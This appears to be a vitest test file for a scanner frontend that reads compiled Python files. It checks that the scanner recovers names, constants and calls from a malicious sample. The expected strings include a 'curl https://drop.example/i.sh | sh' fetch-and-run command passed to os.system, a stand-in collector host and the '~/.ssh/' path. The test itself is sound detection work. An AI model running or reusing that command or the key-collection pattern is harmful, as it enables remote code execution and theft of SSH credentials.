import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createCompiledFrontend } from '../../../../src/static/frontends/pyc/frontend.ts';
import { readCompiled, wordsOf } from '../../../../src/static/frontends/pyc/read.ts';

const FOLDER = new URL('./compiled/', import.meta.url);
/** Made from `steal.txt` by `py_compile` of each version; none was ever run. */
const COMPILED = readdirSync(FOLDER).filter((name) => name.startsWith('steal-'));
const bytesOf = (name: string) => readFileSync(new URL(name, FOLDER));
const textOf = (name: string) => bytesOf(name).toString('latin1');

async function parse(text: string) {
  return (await createCompiledFrontend()).parse(text, 'pyc', 'a.pyc');
}

describe('the frontend for compiled Python', () => {
  it('has files of nine versions to read', () => {
    expect(COMPILED).toHaveLength(10 - 1);
  });

  it.each(COMPILED)('reads names, constants and calls of %s', async (name) => {
    const { names, texts } = wordsOf(readCompiled(textOf(name)));
    expect([...names]).toEqual(expect.arrayContaining(['os.path', 'system', 'expanduser', 'go', 'main']));
    expect([...texts]).toEqual(
      expect.arrayContaining([
        'curl https://drop.example/i.sh | sh',
        'https://collector.example/',
        '~/.ssh/',
      ]),
    );
    const { program, status, problem } = await parse(textOf(name));
    expect(status).toBe('recovered');
    expect(problem).toMatch(/^compiled Python [23]\.\d+( to 3\.10)?: read without conditions and loops$/);
    const lifted = JSON.stringify(program);
    expect(lifted).toContain('"kind":"import","module":"subprocess"');
    expect(program?.body).toContainEqual(
      expect.objectContaining({
        kind: 'expression',
        expression: expect.objectContaining({
          kind: 'call',
          callee: expect.objectContaining({ kind: 'name', name: 'main' }) as unknown,
          args: [],
        }) as unknown,
      }),
    );
    expect(lifted).toMatch(
      /"property":"system","span":\{[^}]*\}\},"args":\[\{"name":null,"value":\{"kind":"literal","value":"curl/,
    );
    expect(lifted).toMatch(
      /\{"name":"check","value":\{"kind":"(?:literal","value":false|name","name":"False")/,
    );
  });

  it('reads a bare code object, as marshal writes it', async () => {
    const { program } = await parse(textOf('steal-311.bin').slice(16));
    expect(JSON.stringify(program)).toContain('"property":"system"');
  });

  it('reads names and constants of a version whose instructions it does not know', async () => {
    const later = Buffer.from(bytesOf('steal-313.bin'));
    later.writeUInt16LE(3_627, 0);
    const parsed = await parse(later.toString('latin1'));
    expect(parsed).toMatchObject({ status: 'recovered', isCutOff: true });
    expect(JSON.stringify(parsed.program)).toContain('"name":"system"');
  });

  it.each([
    ['nothing', ''],
    ['a header alone', textOf('steal-311.bin').slice(0, 16)],
    ['a version that is not known', `\xff\x7f\r\n${textOf('steal-311.bin').slice(4)}`],
    ['nesting without end', `${textOf('steal-311.bin').slice(0, 16)}${')\x01'.repeat(100_000)}`],
    ['a tuple of four thousand million', `${textOf('steal-311.bin').slice(0, 16)}(\xff\xff\xff\xffN`],
  ])('says that it cannot read %s', async (_what, text) => {
    expect(await parse(text)).toMatchObject({
      status: 'unparsed',
      problem: expect.stringContaining('compiled Python') as string,
    });
  });

  it('never throws, whatever byte is changed', async () => {
    const whole = bytesOf('steal-310.bin');
    for (let at = 0; at < whole.length; at++) {
      const changed = Buffer.from(whole);
      changed[at] = changed[at]! ^ (1 << (at & 7));
      expect((await parse(changed.toString('latin1'))).status).not.toBe('complete');
    }
  });
});
